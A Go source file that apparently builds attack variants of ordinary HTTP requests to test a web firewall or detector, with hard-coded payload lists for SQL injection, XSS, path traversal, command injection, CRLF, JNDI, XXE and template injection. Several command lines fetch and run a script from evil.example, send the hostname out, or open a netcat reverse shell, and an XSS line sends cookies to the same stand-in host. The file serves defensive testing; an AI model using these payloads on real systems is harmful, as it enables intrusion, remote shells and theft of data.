package main

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"slices"
	"strconv"
	"strings"
)

// Attack classes: each attack is a normal request of the test part with one thing changed.
const (
	ClassSQLi      = "sqli"      // a value replaced by an sqlmap or hand-written injection (modsec-learn)
	ClassXSS       = "xss"       // script in a value
	ClassTraversal = "traversal" // ../ in a value or the path
	ClassCmd       = "cmdi"      // a shell command appended to a value
	ClassCRLF      = "crlf"      // CR/LF and a header in a value
	ClassOverflow  = "overflow"  // a value hundreds or thousands of bytes long
	ClassTamper    = "tamper"    // a value of the wrong type, far out of range, or an enum changed
	ClassProbe     = "probe"     // a backup or configuration file asked for
	ClassTypo      = "typo"      // an unintentional illegal value: an e-mail without @, a letter in a number
	ClassSmuggle   = "smuggle"   // an injection in a body whose content type says another format
	ClassInject    = "inject"    // other injections: SSI, LDAP, XPath, format strings, templates, JNDI
)

// Classes in the order of the report.
var Classes = []string{ClassSQLi, ClassXSS, ClassTraversal, ClassCmd, ClassCRLF, ClassOverflow, ClassTamper,
	ClassProbe, ClassTypo, ClassSmuggle, ClassInject}

var (
	xssPayloads = []string{
		`<script>alert(1)</script>`, `"><script>alert(document.cookie)</script>`, `<img src=x onerror=alert(1)>`,
		`'><svg/onload=alert(String.fromCharCode(88,83,83))>`, `javascript:alert(1)`, `<iframe src="javascript:alert(1)">`,
		`<body onload=alert('xss')>`, `"onmouseover="alert(1)`, `<ScRiPt>document.location='http://evil.example/?c='+document.cookie</sCrIpT>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, `';alert(1);//`,
		`<input autofocus onfocus=alert(1)>`, `%3Cscript%3Ealert(1)%3C/script%3E`, `<scr<script>ipt>alert(1)</script>`,
	}
	traversalPayloads = []string{
		`../../../../etc/passwd`, `..\..\..\windows\win.ini`, `....//....//....//etc/passwd`, `/etc/passwd`,
		`..%2f..%2f..%2fetc%2fpasswd`, `%2e%2e/%2e%2e/%2e%2e/etc/shadow`, `../../../../../../boot.ini`,
		`..%c0%af..%c0%af..%c0%afetc/passwd`, `../WEB-INF/web.xml`, `/proc/self/environ`, `../../../../etc/passwd%00.html`,
		`file:///etc/passwd`,
	}
	cmdPayloads = []string{
		`; cat /etc/passwd`, `| id`, "`id`", `$(whoami)`, `&& ping -c 3 127.0.0.1`, `; ls -la /`, `|| wget http://evil.example/x.sh -O- | sh`,
		`; rm -rf /tmp/*`, `$(curl http://evil.example/$(hostname))`, `| nc -e /bin/sh evil.example 4444`, `;uname -a;`,
	}
	crlfPayloads = []string{
		"\r\nSet-Cookie: session=attacker", "\r\nLocation: http://evil.example/", "\r\n\r\n<html>owned</html>",
		"\nX-Injected: 1", "%0d%0aSet-Cookie:%20a=b", "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
	}
	injectPayloads = []string{
		`<!--#exec cmd="ls -la"-->`, `<!--#include virtual="/etc/passwd"-->`, `*)(uid=*))(|(uid=*`, `admin)(&(password=*))`,
		`' or count(/child::node())=1 or '`, `'] | //user/* | a['`, `%s%s%s%s%n`, `%x%x%x%x`, `{{7*7}}`, `${7*7}`,
		`${jndi:ldap://evil.example/a}`, `#{T(java.lang.Runtime).getRuntime().exec('id')}`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
	}
	probePaths = []string{
		"/WEB-INF/web.xml", "/.git/config", "/.env", "/backup.zip", "/config.php.old", "/.htaccess", "/server-status",
		"/admin/", "/phpinfo.php", "/.svn/entries", "/db.sql", "/web.config.bak", "/META-INF/context.xml",
	}
	probeSuffixes = []string{".bak", "~", ".old", ".orig", ".swp", ".save", ".tmp", ".1"}
)

// slot is one value of a request an attack may change.
type slot struct {
	t   Type
	get func() string
	set func(v string, raw bool)
}

// clone copies q deeply enough that an attack may change it.
func (q *Req) clone() *Req {
	c := *q
	c.Query = slices.Clone(q.Query)
	c.Form = slices.Clone(q.Form)
	c.JSON = cloneJSON(q.JSON).(jobj)
	return &c
}

func cloneJSON(v any) any {
	switch v := v.(type) {
	case jobj:
		if v == nil {
			return jobj(nil)
		}
		o := make(jobj, len(v))
		for i, f := range v {
			o[i] = jfield{K: f.K, V: cloneJSON(f.V), T: f.T}
		}
		return o
	case jarr:
		a := make(jarr, len(v))
		for i, e := range v {
			a[i] = cloneJSON(e)
		}
		return a
	}
	return v
}

// slots lists the values of q.
func (q *Req) slots() []slot {
	var out []slot
	kv := func(kvs []KV) {
		for i := range kvs {
			p := &kvs[i]
			out = append(out, slot{t: p.T, get: func() string { return p.V },
				set: func(v string, raw bool) { p.V, p.Raw = v, raw }})
		}
	}
	kv(q.Query)
	kv(q.Form)
	var walk func(o jobj)
	walk = func(o jobj) {
		for i := range o {
			f := &o[i]
			switch v := f.V.(type) {
			case jobj:
				walk(v)
			case jarr:
				for _, e := range v {
					if eo, ok := e.(jobj); ok {
						walk(eo)
					}
				}
			default:
				out = append(out, slot{t: f.T, get: func() string { return fmt.Sprint(f.V) },
					set: func(s string, raw bool) {
						if raw {
							if d, err := url.QueryUnescape(s); err == nil {
								s = d
							}
						}
						f.V = s
					}})
			}
		}
	}
	walk(q.JSON)
	return out
}

// inject returns a copy of q with one value changed by change (nil when q has no value
// change accepts). change returns the new value and whether it is percent-encoded already.
func inject(q *Req, r *rand.Rand, accept func(Type) bool, change func(old string, t Type) (string, bool)) *Req {
	c := q.clone()
	var ok []slot
	for _, s := range c.slots() {
		if accept == nil || accept(s.t) {
			ok = append(ok, s)
		}
	}
	if len(ok) == 0 {
		return nil
	}
	s := ok[r.IntN(len(ok))]
	s.set(change(s.get(), s.t))
	return c
}

// appendOrReplace puts payload after the old value or in its place.
func appendOrReplace(r *rand.Rand, old, payload string) string {
	if r.IntN(2) == 0 {
		return old + payload
	}
	return payload
}

// makeAttack returns q changed as an attack of class, or nil when q does not lend itself to
// it (no values, say). sqli holds the SQL injection payloads, percent-encoded.
func makeAttack(class string, q *Req, r *rand.Rand, sqli []string) *Req {
	switch class {
	case ClassSQLi:
		p := pick(r, sqli)
		return inject(q, r, nil, func(string, Type) (string, bool) { return p, true })
	case ClassXSS:
		p := pick(r, xssPayloads)
		return inject(q, r, nil, func(old string, _ Type) (string, bool) {
			if strings.Contains(p, "%3C") {
				return url.QueryEscape(old) + p, true // sent encoded twice
			}
			return appendOrReplace(r, old, p), false
		})
	case ClassTraversal:
		p := pick(r, traversalPayloads)
		if r.IntN(4) == 0 && q.Method == "GET" {
			c := q.clone()
			c.Query = nil
			c.Path = "/static/" + strings.ReplaceAll(strings.TrimPrefix(p, "/"), `\`, "/")
			return c
		}
		raw := strings.Contains(p, "%")
		// Most go to the parameters that hold paths, the rest anywhere.
		if r.IntN(3) > 0 {
			if c := inject(q, r, func(t Type) bool { return t == TPath }, func(string, Type) (string, bool) { return p, raw }); c != nil {
				return c
			}
		}
		return inject(q, r, nil, func(string, Type) (string, bool) { return p, raw })
	case ClassCmd:
		p := pick(r, cmdPayloads)
		return inject(q, r, nil, func(old string, _ Type) (string, bool) { return old + p, false })
	case ClassInject:
		p := pick(r, injectPayloads)
		return inject(q, r, nil, func(old string, _ Type) (string, bool) { return appendOrReplace(r, old, p), false })
	case ClassCRLF:
		p := pick(r, crlfPayloads)
		raw := strings.HasPrefix(p, "%")
		return inject(q, r, nil, func(old string, _ Type) (string, bool) {
			if raw {
				return url.QueryEscape(old) + p, true
			}
			return old + p, false
		})
	case ClassOverflow:
		n := 300 + r.IntN(4000)
		var p string
		switch r.IntN(3) {
		case 0:
			p = strings.Repeat("A", n)
		case 1:
			p = strings.Repeat("%90", n/3) // a NOP sled, sent encoded
			return inject(q, r, nil, func(string, Type) (string, bool) { return p, true })
		default:
			p = strings.Repeat(pick(r, words)+" ", n/6)
		}
		return inject(q, r, nil, func(string, Type) (string, bool) { return p, false })
	case ClassTamper:
		return inject(q, r, func(t Type) bool { return t == TNum || t == TPrice || t == TEnum }, func(old string, t Type) (string, bool) {
			var vs []string
			switch t {
			case TNum:
				vs = []string{"abc", "-" + strconv.Itoa(1+r.IntN(50)), "99999999999", "1e9", "0x1F", "1.5", "-0", old + "a"}
			case TPrice:
				vs = []string{"-" + old, "0", "free", "1e-9", "999999999.99"}
			default:
				vs = []string{"admin", "true", "1", "null", old + "_x", strings.ToUpper(old), "DROP"}
			}
			// One thing changed: never the value it was.
			vs = slices.DeleteFunc(vs, func(v string) bool { return v == old })
			return pick(r, vs), false
		})
	case ClassProbe:
		c := q.clone()
		c.Query, c.Form, c.JSON, c.Method = nil, nil, nil, "GET"
		if r.IntN(2) == 0 {
			c.Path = pick(r, probePaths)
		} else {
			base := c.Path
			if base == "/" {
				base = "/index.jsp"
			}
			c.Path = base + pick(r, probeSuffixes)
		}
		return c
	case ClassTypo:
		return inject(q, r, func(t Type) bool { return t == TEmail || t == TNum || t == TCode || t == TCard }, func(old string, t Type) (string, bool) {
			switch t {
			case TEmail:
				switch r.IntN(3) {
				case 0:
					return strings.Replace(old, "@", "", 1), false
				case 1:
					return strings.Replace(old, "@", "@@", 1), false
				}
				return strings.Replace(old, "@", " @", 1), false
			case TNum:
				return pick(r, []string{"dos", "2x", "l", "O"}), false
			}
			// A letter for a digit: O for 0, l for 1, or a stray comma.
			b := []byte(old)
			for i := range b {
				j := (i + r.IntN(len(b))) % len(b)
				if b[j] >= '0' && b[j] <= '9' {
					b[j] = pick(r, []byte("Ol,"))
					break
				}
			}
			return string(b), false
		})
	case ClassSmuggle:
		// An injection in a body the content type misnames: form fields sent as text/plain or
		// JSON, a JSON document sent as a form, a form as multipart without its boundary.
		p := pick(r, sqli)
		switch {
		case len(q.Form) > 0:
			c := inject(q, r, nil, func(string, Type) (string, bool) { return p, true })
			c.CT = pick(r, []string{"text/plain", "application/json", "application/octet-stream", "multipart/form-data", "application/x-www-form-urlencoded; charset=utf-16"})
			return c
		case q.JSON != nil:
			c := inject(q, r, nil, func(string, Type) (string, bool) { return p, true })
			c.CT = pick(r, []string{"application/x-www-form-urlencoded", "text/plain", "application/xml"})
			return c
		}
		return nil
	}
	panic("unknown class " + class)
}
